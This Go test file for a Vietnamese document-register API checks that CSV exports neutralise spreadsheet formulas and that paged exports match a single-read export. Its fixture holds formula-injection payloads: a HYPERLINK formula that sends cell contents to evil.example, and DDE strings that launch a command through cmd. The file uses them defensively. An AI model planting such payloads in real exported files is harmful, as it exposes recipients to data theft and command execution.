package api_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vanthu/vanthu/workflow"
)

// TestRegisterCSVNeutralisesFormulas puts spreadsheet formulas in every
// free-text field of an incoming document (as a sending agency could) and
// checks that the register CSV starts each of those cells with a quote.
func TestRegisterCSVNeutralisesFormulas(t *testing.T) {
	f := newFixture(t, 5<<20)
	dangerous := map[string]string{
		"subject":         `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`,
		"original_number": "-5+cmd|' /C calc'!A0",
		"notes":           "+1+1",
		"sender":          "@SUM(1+1)*cmd|' /C calc'!A0",
	}
	m := incomingMeta()
	m["subject"], m["original_number"], m["notes"] = dangerous["subject"], dangerous["original_number"], dangerous["notes"]
	m["sender"] = map[string]string{"org_id": "000.00.00.H13", "name": dangerous["sender"]}
	d := f.create(t, "clerk", m)
	if rec := f.json(t, "clerk", "POST", "/api/v1/documents/"+d.ID+"/actions/register", nil); rec.Code != 200 {
		t.Fatalf("register: %d %s", rec.Code, rec.Body.String())
	}
	year := workflow.RegisterYear(time.Now())
	rec := f.do(t, "clerk", "GET", fmt.Sprintf("/api/v1/registers/incoming/%d?format=csv", year), nil, "")
	if rec.Code != 200 {
		t.Fatalf("csv register: %d %s", rec.Code, rec.Body.String())
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff"))).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv: %v %q", err, rec.Body.String())
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for field, v := range dangerous {
		cell := rows[1][col[field]]
		if !strings.HasPrefix(cell, "'") || !strings.Contains(cell, v) {
			t.Errorf("column %s = %q: a formula cell must start with a single quote", field, cell)
		}
	}
	for _, r := range rows {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts with a formula character", cell)
			}
		}
	}
}

// TestRegisterCSVInPages: the CSV of a register year, written a page of
// documents at a time, is the file written from one read of the year —
// the same lines in the same order — for pages of 1, 2 and more lines
// than the register holds; a register the user may not read answers 403,
// not a file.
func TestRegisterCSVInPages(t *testing.T) {
	var svc *workflow.Service
	f := newFixtureWith(t, 5<<20, func(s *workflow.Service) { svc = s })
	for i := range 5 {
		m := incomingMeta()
		m["subject"] = fmt.Sprintf("Văn bản %d", i)
		d := f.create(t, "clerk", m)
		if rec := f.json(t, "clerk", "POST", "/api/v1/documents/"+d.ID+"/actions/register", nil); rec.Code != 200 {
			t.Fatalf("register: %d %s", rec.Code, rec.Body.String())
		}
	}
	path := fmt.Sprintf("/api/v1/registers/incoming/%d?format=csv", workflow.RegisterYear(time.Now()))
	svc.RegisterPage = 1000
	whole := f.do(t, "clerk", "GET", path, nil, "").Body.String()
	if n := strings.Count(whole, "\n"); n != 6 {
		t.Fatalf("one page: %d lines, want 6:\n%s", n, whole)
	}
	for _, size := range []int{1, 2} {
		svc.RegisterPage = size
		if got := f.do(t, "clerk", "GET", path, nil, "").Body.String(); got != whole {
			t.Errorf("pages of %d:\n%s\nwant\n%s", size, got, whole)
		}
	}
	rec := f.do(t, "officer", "GET", fmt.Sprintf("/api/v1/registers/confidential_incoming/%d?format=csv", workflow.RegisterYear(time.Now())), nil, "")
	if rec.Code != 403 || strings.Contains(rec.Header().Get("Content-Type"), "csv") {
		t.Errorf("officer, classified register: %d %s %q", rec.Code, rec.Header().Get("Content-Type"), rec.Body.String())
	}
}
